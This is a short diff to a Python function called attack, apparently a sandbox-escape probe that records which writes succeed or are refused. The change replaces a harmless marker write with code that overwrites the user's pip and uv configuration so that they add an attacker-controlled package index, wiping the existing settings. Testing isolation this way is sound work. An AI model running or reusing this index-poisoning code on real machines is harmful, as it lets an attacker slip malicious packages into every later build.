@@ -41,13 +41,18 @@ def attack(report):
             report["did"].append(path)
         except OSError as error:
             report["refused"][path] = str(error)
-    # What a later build of any app reads.
-    for name in (".bashrc", ".config/uv/uv.toml", ".config/pip/pip.conf", ".pydistutils.cfg"):
-        path = os.path.join(os.environ.get("HOME", "/nonexistent"), name)
+    # What a later build of any app reads: an index of the attacker's.
+    home = os.environ.get("HOME", "/nonexistent")
+    settings = {
+        ".config/uv/uv.toml": f'extra-index-url = ["{INDEX}"]\n',  # noqa: F821 - given
+        ".config/pip/pip.conf": f"[global]\nextra-index-url = {INDEX}\n",  # noqa: F821
+    }
+    for name, text in settings.items():
+        path = os.path.join(home, name)
         try:
             os.makedirs(os.path.dirname(path), exist_ok=True)
-            with open(path, "a") as file:
-                file.write("# EVIL-APPOINTMENT\n")
+            with open(path, "w") as file:
+                file.write(text)
             report["did"].append(path)
         except OSError as error:
             report["refused"][path] = str(error)
